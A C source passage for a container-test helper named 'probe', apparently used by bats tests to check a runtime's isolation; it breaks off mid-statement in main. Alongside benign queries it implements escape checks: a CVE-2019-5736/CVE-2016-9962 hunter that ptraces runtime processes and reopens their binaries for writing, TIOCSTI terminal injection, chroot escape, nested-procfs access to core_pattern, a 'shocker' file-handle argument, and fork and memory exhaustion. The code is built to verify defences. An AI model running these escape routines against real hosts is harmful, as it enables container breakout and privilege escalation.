/* probe: a tiny static multi-call helper run inside test containers, so tests can
 * ask precise questions the busybox applets answer vaguely (which errno? which
 * fds are open?). Output is one line per answer, easy to match in bats.
 *
 *   probe fds                  open fds other than 0-2, as "N -> target"
 *   probe write PATH           "ok" or the errno name of open(PATH, O_WRONLY|O_CREAT)
 *   probe read PATH            number of bytes read, or the errno name
 *   probe stat PATH            "<type> <major>:<minor> <mode> <uid>:<gid>" (lstat)
 *   probe cwd                  getcwd() or the errno name
 *   probe umask                the umask in octal
 *   probe rlimit NAME          "<soft> <hard>" (NOFILE, NPROC, CORE, ...)
 *   probe ids                  "uid=.. gid=.. groups=a,b"
 *   probe exec PATH            "ok" never printed: execs PATH, or prints the errno name
 *   probe mknod PATH           "ok" or the errno name of mknod(c 1:3)
 *   probe unshare-user         "ok" or the errno name of unshare(CLONE_NEWUSER)
 *   probe kill-self SIG        raise(SIG) (a test for 128+N exit statuses)
 *   probe exe-write PID        try to open /proc/PID/exe for writing: "ok" or errno name
 *   probe memhog MB            allocate and touch MB megabytes, print "allocated" (or die)
 *   probe forkloop N           fork up to N children that sleep; print "forked K: errno"
 *   probe spin SECONDS         burn CPU for SECONDS of wall time
 *   probe counter FILE         write an increasing counter to FILE every 10 ms, forever
 *   probe syscall NAME [A...]  call NAME with args A (numbers; default: -1 for each, so fds are
 *                              invalid and pointers bad) and print the errno name or "ok": the
 *                              bubblewrap try-syscall idea: EPERM/ENOSYS = a filter answered,
 *                              EBADF/EFAULT/EINVAL = the kernel was reached
 *   probe syscall-nr N [A...]  the same by number
 *                              An argument may also be "s:TEXT" (a pointer to TEXT), "z:" (a
 *                              pointer to 4 KiB of zeros, for a struct the kernel reads) or
 *                              "f:PATH" (an fd open read-only on PATH) or "h:INO" (a pointer to
 *                              a file handle naming inode INO, generation 0, as ext4
 *                              encodes it: the "shocker" open_by_handle_at attack)
 *   probe creds                "uid=R euid=E gid=R egid=E" (setuid binaries change E)
 *   probe cat PATH             copy PATH to stdout (e.g. /proc/self/status of this process)
 *   probe connect ADDR         connect a stream socket to "@NAME" (abstract unix), "/PATH"
 *                              (unix) or "A.B.C.D:PORT": "ok" or the errno name
 *   probe listen ADDR          (host side) listen on ADDR, print "listening", accept and
 *                              close connections until killed
 *   probe tiocsti [check]      push "x\n" into the terminal on fd 0 with TIOCSTI, again with
 *                              the upper 32 bits of the command set (CVE-2019-10063), and try
 *                              TIOCLINUX: "sti E sti-hi E linux E"; with "check", also
 *                              " input none|got" (did anything arrive on fd 0 in 200 ms)
 *   probe pty-run OUT CMD...   (host side) run CMD in a new session whose controlling
 *                              terminal is a fresh pty on its stdin (stdout and stderr to
 *                              OUT), like a command typed in an interactive shell; then
 *                              print "input none" or "input got N": bytes that something
 *                              pushed into that terminal's input queue (TIOCSTI)
 *   probe ptrace-sibling       fork a child and try the cross-process calls on it:
 *                              "ptrace E vm_readv E vm_writev E kcmp E pidfd_getfd E"
 *   probe nest-proc DIR        the runc#2647 escape: new user+mount+pid namespaces, then a
 *                              fresh procfs on DIR: "unshare E", "mount E", and if mounted
 *                              "core_pattern E" (opened for writing, nothing written) and
 *                              "keys N" (bytes of the unmasked /proc/keys)
 *   probe chroot-escape DIR MARKER
 *                              keep a fd on "/", chroot(DIR), fchdir out, climb "..",
 *                              chroot("."): "chroot E" and, if that worked, "marker
 *                              found|absent" for MARKER as seen from the root reached
 *   probe swap A B             (host side) exchange A and B (renameat2 RENAME_EXCHANGE) in a
 *                              loop until killed: the racing party of the symlink-swap CVEs
 *   probe hunt DIR             the container-side attacker of CVE-2019-5736/CVE-2016-9962,
 *                              until DIR/stop exists (60 s at most); see cmd_hunt
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static const char *
errname (int e)
{
  switch (e)
    {
#define E(x)                                                                                                   \
  case x:                                                                                                      \
    return #x
      E (EPERM); E (ENOENT); E (EACCES); E (EROFS); E (EBADF); E (EEXIST); E (ENOTDIR); E (EISDIR);
      E (EINVAL); E (ENOSPC); E (EFAULT); E (ENOSYS); E (ELOOP); E (ETXTBSY); E (EXDEV); E (ENXIO);
      E (EBUSY); E (EAGAIN); E (ENODEV); E (EOPNOTSUPP); E (EFBIG); E (EMFILE); E (ESRCH);
      E (ENETDOWN); E (ENOTTY); E (E2BIG); E (ENOMSG); E (EAFNOSUPPORT); E (ENETUNREACH); E (ECONNREFUSED);
      E (EIO); E (EPROTONOSUPPORT); E (ESOCKTNOSUPPORT); E (ENOTCONN); E (EADDRNOTAVAIL); E (ECONNRESET);
      E (ENOTEMPTY); E (EMLINK); E (ETIMEDOUT); E (ENOKEY); E (EKEYREVOKED);
#undef E
    default:
      return "EOTHER";
    }
}

static const struct
{
  const char *name;
  long nr;
} syscalls[] = {
#define S(n) { #n, SYS_##n }
  S (read), S (write), S (openat), S (close), S (getpid), S (getppid), S (ioctl), S (mount), S (umount2),
  S (unshare), S (setns), S (keyctl), S (add_key), S (request_key), S (bpf), S (perf_event_open), S (ptrace),
  S (process_vm_readv), S (process_vm_writev), S (kexec_load), S (kexec_file_load), S (init_module),
  S (finit_module), S (delete_module), S (reboot), S (swapon), S (swapoff), S (clock_settime),
  S (settimeofday), S (sethostname), S (setdomainname), S (acct), S (quotactl), S (io_uring_setup),
  S (io_uring_enter), S (io_uring_register), S (userfaultfd), S (fsopen), S (fsconfig), S (fsmount),
  S (fspick), S (move_mount), S (open_tree), S (mount_setattr), S (pivot_root), S (chroot),
  S (open_by_handle_at), S (name_to_handle_at), S (clone), S (clone3), S (personality), S (socket),
  S (kill), S (getcwd), S (syslog), S (vhangup), S (kcmp), S (pidfd_getfd), S (lookup_dcookie),
  S (modify_ldt), S (uselib), S (ustat), S (sysfs), S (mbind), S (set_mempolicy), S (migrate_pages),
  S (move_pages), S (quotactl_fd), S (fanotify_init), S (iopl), S (ioperm), S (nfsservctl), S (mknod),
  S (uname), S (getrandom), S (statx), S (landlock_create_ruleset), S (memfd_secret), S (futex_waitv),
  S (setresuid), S (setresgid), S (setgroups), S (capset), S (prctl), S (chdir), S (mknodat), S (pidfd_open),
  S (chmod), S (fchdir), S (connect), S (shmget), S (shmat), S (execveat),
#undef S
};

static int
fail (void)
{
  printf ("%s\n", errname (errno));
  return 1;
}

static int
cmd_fds (void)
{
  DIR *d = opendir ("/proc/self/fd");
  struct dirent *de;
  int self;
  if (!d)
    return fail ();
  self = dirfd (d);
  while ((de = readdir (d)))
    {
      char path[64], target[PATH_MAX];
      int fd = atoi (de->d_name);
      ssize_t n;
      if (de->d_name[0] == '.' || fd <= 2 || fd == self)
        continue;
      snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
      n = readlink (path, target, sizeof target - 1);
      target[n > 0 ? n : 0] = '\0';
      printf ("%d -> %s\n", fd, target);
    }
  closedir (d);
  return 0;
}

static const struct
{
  const char *name;
  int res;
} rlimits[] = { { "NOFILE", RLIMIT_NOFILE }, { "NPROC", RLIMIT_NPROC }, { "CORE", RLIMIT_CORE },
                { "FSIZE", RLIMIT_FSIZE },   { "CPU", RLIMIT_CPU },     { "AS", RLIMIT_AS },
                { "STACK", RLIMIT_STACK },   { "MEMLOCK", RLIMIT_MEMLOCK } };

/* One argument of `probe syscall`: a number, or a pointer/fd as described above. */
static long
sysarg (const char *a)
{
  static char zeros[6][4096];
  static int nz;
  if (strncmp (a, "s:", 2) == 0)
    return (long) (a + 2);
  if (strncmp (a, "z:", 2) == 0)
    return (long) zeros[nz++ % 6];
  if (strncmp (a, "f:", 2) == 0)
    return open (a + 2, O_RDONLY | O_CLOEXEC); /* -1 if it cannot be opened: EBADF then */
  if (strncmp (a, "h:", 2) == 0)
    {
      /* struct file_handle: handle_bytes, handle_type (1 = FILEID_INO32_GEN), then
       * the 32-bit inode number and generation */
      static unsigned int h[4];
      h[0] = 8;
      h[1] = 1;
      h[2] = (unsigned int) strtoul (a + 2, NULL, 0);
      h[3] = 0;
      return (long) h;
    }
  return strtol (a, NULL, 0);
}

/* "@name", "/path" or "a.b.c.d:port" into a sockaddr; returns its length, 0 if bad. */
static socklen_t
parse_addr (const char *s, struct sockaddr_storage *ss, int *family)
{
  memset (ss, 0, sizeof *ss);
  if (s[0] == '@' || s[0] == '/')
    {
      struct sockaddr_un *un = (struct sockaddr_un *) ss;
      size_t n = strlen (s);
      if (n >= sizeof un->sun_path)
        return 0;
      un->sun_family = AF_UNIX;
      memcpy (un->sun_path, s, n);
      if (s[0] == '@')
        un->sun_path[0] = '\0'; /* abstract: no NUL terminator counted */
      *family = AF_UNIX;
      return offsetof (struct sockaddr_un, sun_path) + n + (s[0] == '/');
    }
  else
    {
      struct sockaddr_in *in = (struct sockaddr_in *) ss;
      char host[64];
      const char *colon = strrchr (s, ':');
      if (!colon || (size_t) (colon - s) >= sizeof host)
        return 0;
      memcpy (host, s, colon - s);
      host[colon - s] = '\0';
      in->sin_family = AF_INET;
      in->sin_port = htons (atoi (colon + 1));
      if (inet_pton (AF_INET, host, &in->sin_addr) != 1)
        return 0;
      *family = AF_INET;
      return sizeof *in;
    }
}

static int
cmd_connect (const char *addr, int do_listen)
{
  struct sockaddr_storage ss;
  int family, fd;
  socklen_t len = parse_addr (addr, &ss, &family);
  if (!len)
    return 2;
  fd = socket (family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0)
    return fail ();
  if (!do_listen)
    {
      if (connect (fd, (struct sockaddr *) &ss, len) < 0)
        return fail ();
      printf ("ok\n");
      return 0;
    }
  if (family == AF_INET)
    setsockopt (fd, SOL_SOCKET, SO_REUSEADDR, &(int){ 1 }, sizeof (int));
  if (bind (fd, (struct sockaddr *) &ss, len) < 0 || listen (fd, 16) < 0)
    return fail ();
  printf ("listening\n");
  fflush (stdout);
  for (;;)
    {
      int c = accept (fd, NULL, NULL);
      if (c >= 0)
        close (c);
    }
}

/* The errno name of a raw syscall's result, or "ok". */
#define TRY(call) ((call) < 0 ? errname (errno) : "ok")

static int
cmd_tiocsti (int check)
{
  char x = 'x', nl = '\n', sub[64] = { 2 }; /* TIOCLINUX subcode 2: set selection */
  const char *sti, *hi, *lin;
  sti = TRY (syscall (SYS_ioctl, 0, (unsigned long) TIOCSTI, &x));
  if (sti[0] == 'o')
    syscall (SYS_ioctl, 0, (unsigned long) TIOCSTI, &nl);
  hi = TRY (syscall (SYS_ioctl, 0, (unsigned long) TIOCSTI | (1UL << 32), &x));
  if (hi[0] == 'o')
    syscall (SYS_ioctl, 0, (unsigned long) TIOCSTI | (1UL << 32), &nl);
  lin = TRY (syscall (SYS_ioctl, 0, (unsigned long) TIOCLINUX, sub));
  printf ("sti %s sti-hi %s linux %s", sti, hi, lin);
  if (check)
    {
      struct pollfd p = { .fd = 0, .events = POLLIN };
      printf (" input %s", poll (&p, 1, 200) > 0 && (p.revents & POLLIN) ? "got" : "none");
    }
  printf ("\n");
  return 0;
}

static int
cmd_pty_run (const char *out, char **cmd)
{
  int m = posix_openpt (O_RDWR | O_NOCTTY), s, status, n = 0;
  const char *name;
  struct termios t;
  pid_t pid;
  if (m < 0 || grantpt (m) < 0 || unlockpt (m) < 0 || !(name = ptsname (m)))
    return fail ();
  s = open (name, O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (s < 0 || tcgetattr (s, &t) < 0)
    return fail ();
  cfmakeraw (&t); /* a pushed byte is readable at once, no newline needed */
  tcsetattr (s, TCSANOW, &t);
  pid = fork ();
  if (pid == 0)
    {
      int o = open (out, O_WRONLY | O_CREAT | O_TRUNC, 0644);
      setsid ();
      int tty = open (name, O_RDWR); /* the session leader's first tty: its controlling one */
      if (tty < 0 || o < 0 || ioctl (tty, TIOCSCTTY, 0) < 0)
        _exit (126);
      dup2 (tty, 0);
      dup2 (o, 1);
      dup2 (o, 2);
      execvp (cmd[0], cmd);
      _exit (127);
    }
  waitpid (pid, &status, 0);
  ioctl (s, FIONREAD, &n);
  if (n > 0)
    printf ("input got %d\n", n);
  else
    printf ("input none\n");
  return 0;
}

static volatile long sibling_word = 42;

static int
cmd_ptrace_sibling (void)
{
  long buf = 0;
  struct iovec local = { &buf, sizeof buf }, remote = { (void *) &sibling_word, sizeof buf };
  const char *tr, *rv, *wv, *kc, *gf;
  int pidfd;
  pid_t child = fork ();
  if (child == 0)
    {
      for (;;)
        pause ();
    }
  usleep (20000);
  if (ptrace (PTRACE_ATTACH, child, 0, 0) == 0)
    {
      waitpid (child, NULL, __WALL);
      ptrace (PTRACE_DETACH, child, 0, 0);
      tr = "ok";
    }
  else
    tr = errname (errno);
  rv = TRY (syscall (SYS_process_vm_readv, child, &local, 1, &remote, 1, 0));
  buf = 42;
  wv = TRY (syscall (SYS_process_vm_writev, child, &local, 1, &remote, 1, 0));
  kc = TRY (syscall (SYS_kcmp, getpid (), child, 0 /* KCMP_FILE */, 0, 0));
  pidfd = syscall (SYS_pidfd_open, child, 0);
  gf = pidfd < 0 ? "pidfd_open-failed" : TRY (syscall (SYS_pidfd_getfd, pidfd, 0, 0));
  printf ("ptrace %s vm_readv %s vm_writev %s kcmp %s pidfd_getfd %s\n", tr, rv, wv, kc, gf);
  kill (child, SIGKILL);
  waitpid (child, NULL, 0);
  return 0;
}

static int
cmd_nest_proc (const char *dir)
{
  pid_t child;
  int status;
  if (unshare (CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
    {
      printf ("unshare %s\n", errname (errno));
      return 0;
    }
  printf ("unshare ok\n");
  fflush (stdout);
  child = fork (); /* pid 1 of the new pid namespace: procfs is mounted for its namespace */
  if (child == 0)
    {
      char path[PATH_MAX], buf[4096];
      long total = 0;
      ssize_t n;
      int fd;
      mount (NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
      if (mount ("proc", dir, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0)
        {
          printf ("mount %s\n", errname (errno));
          fflush (stdout);
          _exit (0);
        }
      printf ("mount ok\n");
      snprintf (path, sizeof path, "%s/sys/kernel/core_pattern", dir);
      fd = open (path, O_WRONLY | O_CLOEXEC);
      printf ("core_pattern %s\n", fd < 0 ? errname (errno) : "ok");
      snprintf (path, sizeof path, "%s/keys", dir);
      fd = open (path, O_RDONLY | O_CLOEXEC);
      while (fd >= 0 && (n = read (fd, buf, sizeof buf)) > 0)
        total += n;
      printf ("keys %ld\n", total);
      fflush (stdout);
      _exit (0);
    }
  waitpid (child, &status, 0);
  return 0;
}

static int
cmd_chroot_escape (const char *dir, const char *marker)
{
  struct stat st;
  int root = open ("/", O_RDONLY | O_DIRECTORY);
  mkdir (dir, 0755);
  if (chroot (dir) < 0)
    {
      printf ("chroot %s\n", errname (errno));
      return 0;
    }
  printf ("chroot ok\n");
  if (fchdir (root) < 0)
    return fail ();
  for (int i = 0; i < 64; i++)
    if (chdir ("..") < 0)
      break;
  if (chroot (".") < 0)
    return fail ();
  printf ("marker %s\n", stat (marker, &st) == 0 ? "found" : "absent");
  return 0;
}

static int
cmd_swap (const char *a, const char *b)
{
  for (;;)
    if (syscall (SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0)
      return fail ();
}

/* probe hunt DIR: what a process already inside a container can try against the
 * runtime's own processes when they enter its pid namespace (the waiting init of
 * a container that joins it, an exec): CVE-2016-9962 (ptrace, fds) and CVE-2019-5736
 * (reopen the runtime binary for writing through /proc/PID/exe).
 * Every process that appears is looked at: one running busybox or this probe (the
 * container's own programs) is left alone. For any other one it prints once
 *   "pid P exe=E attach=E vmread=E fds=E"   (E: "ok" or the errno name)
 * plus "fd P N -> TARGET open=E" for each fd it could list (TARGET empty when the link
 * cannot be read; E: whether the fd could be opened through /proc), and "pid P exec'd
 * during the check" or "pid P exited during the check" when it changed while it was
 * looked at (what was seen of it may not be the runtime's). A process whose exe was denied
 * is looked at again every round (it may exec something). Each foreign exe that
 * could be opened (O_PATH) is then reopened for writing through /proc/self/fd/K every
 * round (until it works once), writing back one byte it read: success prints "WRITABLE P". Once such an exe is held, the
 * FIFOs DIR/hold* named on that process's command line are opened for reading, which
 * releases it if it is blocked opening one for writing. Ends, when DIR/stop exists or after 60 s, with
 * "done denied N captured M" and "write P E" (the last answer for each held exe). */
static unsigned char hunt_seen[(1 << 22) / 8];

/* /proc/PID/comm (changes at exec), "" if unreadable */
static void
read_comm (pid_t pid, char out[32])
{
  char p[64];
  ssize_t n;
  int fd;
  snprintf (p, sizeof p, "/proc/%d/comm", pid);
  fd = open (p, O_RDONLY | O_CLOEXEC);
  n = fd >= 0 ? read (fd, out, 31) : -1;
  if (fd >= 0)
    close (fd);
  out[n > 0 ? n : 0] = '\0';
}

enum exe_state
{
  EXE_DENIED,
  EXE_READABLE,
  EXE_GONE
};

/* Whether /proc/PID/exe can be opened now: a runtime process that was denied and is
   now readable has exec'd a (dumpable) program */
static enum exe_state
exe_state_now (pid_t pid)
{
  char p[64];
  int fd;
  snprintf (p, sizeof p, "/proc/%d/exe", pid);
  fd = open (p, O_PATH | O_CLOEXEC);
  if (fd >= 0)
    {
      close (fd);
      return EXE_READABLE;
    }
  return errno == ENOENT || errno == ESRCH ? EXE_GONE : EXE_DENIED;
}

static int
is_own (struct stat *st, struct stat *own, int n_own)
{
  for (int i = 0; i < n_own; i++)
    if (st->st_dev == own[i].st_dev && st->st_ino == own[i].st_ino)
      return 1;
  return 0;
}

static int
cmd_hunt (const char *dir)
{
  struct stat own[2], st;
  struct
  {
    pid_t pid;
    int fd;
    const char *last;
    int printed;
  } held[32];
  pid_t denied[256], reported[1024];
  int n_held = 0, n_denied = 0, n_reported = 0, total_denied = 0, holds[9], n_holds = 0;
  char path[PATH_MAX];
  time_t end = time (NULL) + 60;
  pid_t self = getpid ();
  DIR *proc = opendir ("/proc");
  if (!proc || stat ("/bin/busybox", &own[0]) < 0 || stat ("/proc/self/exe", &own[1]) < 0)
    return fail ();
  printf ("ready\n");
  fflush (stdout);
  snprintf (path, sizeof path, "%s/stop", dir);
  while (access (path, F_OK) < 0 && time (NULL) < end)
    {
      struct dirent *de;
      pid_t cand[512];
      int n_cand = 0;
      while (waitpid (-1, NULL, WNOHANG) > 0)
        ; /* orphans reparented to us, if we are the namespace's init */
      rewinddir (proc);
      while ((de = readdir (proc)) && n_cand < 512)
        {
          pid_t pid = atoi (de->d_name);
          if (pid <= 0 || pid == self || pid >= (1 << 22) || (hunt_seen[pid / 8] & (1 << (pid % 8))))
            continue;
          hunt_seen[pid / 8] |= 1 << (pid % 8);
          cand[n_cand++] = pid;
        }
      /* the ones denied before come back every round */
      for (int i = 0; i < n_denied && n_cand < 512; i++)
        cand[n_cand++] = denied[i];
      n_denied = 0;
      for (int i = 0; i < n_cand; i++)
        {
          pid_t pid = cand[i];
          char p[64], fdp[PATH_MAX], target[PATH_MAX], comm0[32], comm1[32];
          const char *exe, *attach, *vm, *fds;
          int fd, is_held = 0;
          long word;
          struct iovec l = { &word, sizeof word }, r = { (void *) 0x10000, sizeof word };
          DIR *d;
          for (int j = 0; j < n_held; j++)
            is_held |= held[j].pid == pid;
          if (is_held)
            continue;
          read_comm (pid, comm0);
          snprintf (p, sizeof p, "/proc/%d/exe", pid);
          fd = open (p, O_PATH | O_CLOEXEC);
          if (fd >= 0 && fstat (fd, &st) == 0 && is_own (&st, own, 2))
            {
              close (fd);
              continue;
            }
          if (fd < 0 && (errno == ENOENT || errno == ESRCH))
            continue; /* gone, or a kernel thread */
          exe = fd >= 0 ? "ok" : errname (errno);
          if (fd < 0)
            {
              /* watched again next round; reported only the first time */
              int known = 0;
              if (n_denied < 256)
                denied[n_denied++] = pid;
              for (int j = 0; j < n_reported; j++)
                known |= reported[j] == pid;
              if (known)
                continue;
              if (n_reported < 1024)
                reported[n_reported++] = pid;
              total_denied++;
            }
          /* the same permission check as PTRACE_ATTACH, without queueing a SIGSTOP
           * that could outlive the detach and leave the process stopped */
          if (ptrace (PTRACE_SEIZE, pid, 0, 0) == 0)
            {
              ptrace (PTRACE_INTERRUPT, pid, 0, 0);
              waitpid (pid, NULL, __WALL);
              ptrace (PTRACE_DETACH, pid, 0, 0);
              attach = "ok";
            }
          else
            attach = errname (errno);
          vm = TRY (syscall (SYS_process_vm_readv, pid, &l, 1, &r, 1, 0));
          snprintf (p, sizeof p, "/proc/%d/fd", pid);
          d = opendir (p);
          fds = d ? "ok" : errname (errno);
          printf ("pid %d exe=%s attach=%s vmread=%s fds=%s\n", pid, exe, attach, vm, fds);
          while (d && (de = readdir (d)))
            {
              ssize_t n;
              if (de->d_name[0] == '.')
                continue;
              snprintf (fdp, sizeof fdp, "%s/%s", p, de->d_name);
              int o;
              n = readlink (fdp, target, sizeof target - 1);
              target[n > 0 ? n : 0] = '\0';
              o = open (fdp, O_PATH | O_CLOEXEC);
              printf ("fd %d %s -> %s open=%s\n", pid, de->d_name, target, o >= 0 ? "ok" : errname (errno));
              if (o >= 0)
                close (o);
            }
          if (d)
            closedir (d);
          /* A runtime process that exec'd the program, or exited, between the exe
             check and the end of the look: what was seen after that (a dumpable
             program's attach and fds, a gone process's ESRCH) was not the runtime's
             (assert_hunter_got_nothing) */
          read_comm (pid, comm1);
          if (fd < 0)
            switch (exe_state_now (pid))
              {
              case EXE_GONE:
                printf ("pid %d exited during the check\n", pid);
                break;
              case EXE_READABLE:
                printf ("pid %d exec'd during the check\n", pid);
                break;
              default:
                if (strcmp (comm0, comm1) != 0)
                  printf ("pid %d exec'd during the check\n", pid);
              }
          else if (strcmp (comm0, comm1) != 0)
            printf ("pid %d exec'd during the check\n", pid);
          fflush (stdout);
          if (fd >= 0 && n_held < 32)
            {
              held[n_held].pid = pid;
              held[n_held].fd = fd;
              held[n_held].last = "none";
              held[n_held++].printed = 0;
              /* let it go on (and exit) if it is blocked opening one of the FIFOs
               * DIR/hold* its command line names */
              {
                char cl[4096], *a;
                int c;
                ssize_t len;
                snprintf (p, sizeof p, "/proc/%d/cmdline", pid);
                c = open (p, O_RDONLY | O_CLOEXEC);
                len = c >= 0 ? read (c, cl, sizeof cl - 1) : -1;
                if (c >= 0)
                  close (c);
                if (len > 0)
                  cl[len] = '\0';
                for (a = cl; len > 0 && a < cl + len; a += strlen (a) + 1)
                  {
                    char *h = strstr (a, dir);
                    if (h && strncmp (h + strlen (dir), "/hold", 5) == 0 && n_holds < 9)
                      {
                        int hf = open (h, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
                        if (hf >= 0)
                          holds[n_holds++] = hf;
                      }
                  }
              }
            }
          else if (fd >= 0)
            close (fd);
        }
      for (int j = 0; j < n_held; j++)
        {
          char self_fd[64];
          int w;
          if (held[j].printed)
            continue; /* proven once; open again and again, it would block the host's execs */
          snprintf (self_fd, sizeof self_fd, "/proc/self/fd/%d", held[j].fd);
          /* Writable means a write lands: a sealed memfd opens for writing but refuses
           * every write (EPERM). The probe writes back the byte that is already there,
           * so even a vulnerable binary keeps its content. */
          w = open (self_fd, O_RDWR | O_CLOEXEC);
          if (w >= 0)
            {
              char byte;
              int wrote = pread (w, &byte, 1, 0) == 1 && pwrite (w, &byte, 1, 0) == 1;
              int e = errno;
              close (w);
              if (!wrote)
                {
                  held[j].last = errname (e);
                  continue;
                }
              held[j].last = "ok";
              if (!held[j].printed++)
                {
                  printf ("WRITABLE %d\n", held[j].pid);
                  fflush (stdout);
                }
            }
          else
            held[j].last = errname (errno);
        }
      for (int j = 0; j < n_holds; j++)
        {
          char sink[512];
          while (read (holds[j], sink, sizeof sink) > 0)
            ;
        }
    }
  printf ("done denied %d captured %d\n", total_denied, n_held);
  for (int j = 0; j < n_held; j++)
    printf ("write %d %s\n", held[j].pid, held[j].last);
  return 0;
}

int
main (int argc, char **argv)
{
  const char *cmd = argc > 1 ? argv[1] : "";
  const char *arg = argc > 2 ? argv[2] : "";
  struct stat st;
  if (strcmp (cmd, "fds") == 0)
    return cmd_fds ();
  if (strcmp (cmd, "write") == 0)
    {
      int fd = open (arg, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
      if (fd < 0)
        return fail ();
      printf ("ok\n");
      return 0;
    }
  if (strcmp (cmd, "read") == 0)
    {
      char buf[65536];
      long total = 0;
      ssize_t n;
      int fd = open (arg, O_RDONLY | O_CLOEXEC);
      if (fd < 0)
        return fail ();
      while ((n = read (fd, buf, sizeof buf)) > 0)
        total += n;
      if (n < 0)
        return fail ();
      printf ("%ld\n", total);
      return 0;
    }
  if (strcmp (cmd, "stat") == 0)
    {
      const char *type;
      if (lstat (arg, &st) < 0)
        return fail ();
      type = S_ISCHR (st.st_mode) ? "char" : S_ISBLK (st.st_mode) ? "block" : S_ISDIR (st.st_mode) ? "dir"
             : S_ISLNK (st.st_mode) ? "link" : S_ISFIFO (st.st_mode) ? "fifo" : S_ISREG (st.st_mode) ? "file" : "other";
      printf ("%s %u:%u %04o %u:%u\n", type, major (st.st_rdev), minor (st.st_rdev), st.st_mode & 07777, st.st_uid,
              st.st_gid);
      return 0;
    }
  if (strcmp (cmd, "cwd") == 0)
    {
      char buf[PATH_MAX];
      if (!getcwd (buf, sizeof buf))
        return fail ();
      printf ("%s\n", buf);
      return 0;
    }
  if (strcmp (cmd, "umask") == 0)
    {
      mode_t m = umask (0);
      printf ("%04o\n", m);
      return 0;
    }
  if (strcmp (cmd, "rlimit") == 0)
    {
      for (size_t i = 0; i < sizeof rlimits / sizeof rlimits[0]; i++)
        if (strcmp (rlimits[i].name, arg) == 0)
          {
            struct rlimit rl;
            getrlimit (rlimits[i].res, &rl);
            printf ("%llu %llu\n", (unsigned long long) rl.rlim_cur, (unsigned long long) rl.rlim_max);
            return 0;
          }
      return 2;
    }
  if (strcmp (cmd, "ids") == 0)
    {
      gid_t groups[64];
      int n = getgroups (64, groups);
      printf ("uid=%u gid=%u groups=", getuid (), getgid ());
      for (int i = 0; i < n; i++)
        printf ("%s%u", i ? "," : "", groups[i]);
      printf ("\n");
      return 0;
    }
  if (strcmp (cmd, "exec") == 0)
    {
      execv (arg, argv + 2);
      return fail ();
    }
  if (strcmp (cmd, "mknod") == 0)
    {
      if (mknod (arg, S_IFCHR | 0666, makedev (1, 3)) < 0)
        return fail ();
      printf ("ok\n");
      return 0;
    }
  if (strcmp (cmd, "unshare-user") == 0)
    {
      if (unshare (CLONE_NEWUSER) < 0)
        return fail ();
      printf ("ok\n");
      return 0;
    }
  if (strcmp (cmd, "kill-self") == 0)
    {
      signal (atoi (arg), SIG_DFL);
      raise (atoi (arg));
      return 99;
    }
  if (strcmp (cmd, "exe-write") == 0)
    {
      char path[64];
      int fd;
      snprintf (path, sizeof path, "/proc/%s/exe", arg);
      fd = open (path, O_WRONLY | O_CLOEXEC);
      if (fd < 0)
        return fail ();
      printf ("ok\n");
      return 0;
    }
  if (strcmp (cmd, "syscall") == 0 || strcmp (cmd, "syscall-nr") == 0)
    {
      long nr = -1, a[6] = { -1, -1, -1, -1, -1, -1 };
      if (strcmp (cmd, "syscall-nr") == 0)
        nr = strtol (arg, NULL, 0);
      else
        for (size_t i = 0; i < sizeof syscalls / sizeof syscalls[0]; i++)
          if (strcmp (syscalls[i].name, arg) == 0)
            nr = syscalls[i].nr;
      if (nr < 0)
        {
          fprintf (stderr, "probe: unknown syscall %s\n", arg);
          return 2;
        }
      for (int i = 0; i < 6 && i + 3 < argc; i++)
        a[i] = sysarg (argv[i + 3]);
      errno = 0;
      if (syscall (nr, a[0], a[1], a[2], a[3], a[4], a[5]) < 0)
        return fail ();
      printf ("ok\n");
      return 0;
    }
  if (strcmp (cmd, "memhog") == 0)
    {
      long mb = atol (arg);
      for (long i = 0; i < mb; i++)
        {
          char *p = malloc (1 << 20);
          if (!p)
            return fail ();
          memset (p, 1, 1 << 20);
        }
      printf ("allocated\n");
      return 0;
    }
  if (strcmp (cmd, "forkloop") == 0)
    {
      long n = atol (arg), k = 0;
      for (; k < n; k++)
        {
          pid_t pid = fork ();
          if (pid < 0)
            break;
          if (pid == 0)
            {
              sleep (30);
              _exit (0);
            }
        }
      printf ("forked %ld: %s\n", k, k < n ? errname (errno) : "none");
      fflush (stdout);
      kill (0, SIGKILL);
      return 0;
    }
  if (strcmp (cmd, "spin") == 0)
    {
      time_t end = time (NULL) + atol (arg);
      volatile unsigned long x = 0;
      while (time (NULL) < end)
        x++;
      return 0;
    }
  if (strcmp (cmd, "counter") == 0)
    {
      /* Written to FILE.tmp and renamed over FILE, so a reader (possibly racing a freeze
         between the truncate and the write) always sees a whole number. */
      char tmp[4096];
      snprintf (tmp, sizeof tmp, "%s.tmp", arg);
      for (unsigned long i = 0;; i++)
        {
          FILE *f = fopen (tmp, "w");
          if (f)
            {
              fprintf (f, "%lu\n", i);
              if (fclose (f) == 0)
                rename (tmp, arg);
            }
          usleep (10000);
        }
    }
  if (strcmp (cmd, "creds") == 0)
    {
      printf ("uid=%u euid=%u gid=%u egid=%u\n", getuid (), geteuid (), getgid (), getegid ());
      return 0;
    }
  if (strcmp (cmd, "cat") == 0)
    {
      char buf[4096];
      ssize_t n;
      int fd = open (arg, O_RDONLY | O_CLOEXEC);
      if (fd < 0)
        return fail ();
      while ((n = read (fd, buf, sizeof buf)) > 0)
        fwrite (buf, 1, n, stdout);
      return 0;
    }
  if (strcmp (cmd, "connect") == 0 || strcmp (cmd, "listen") == 0)
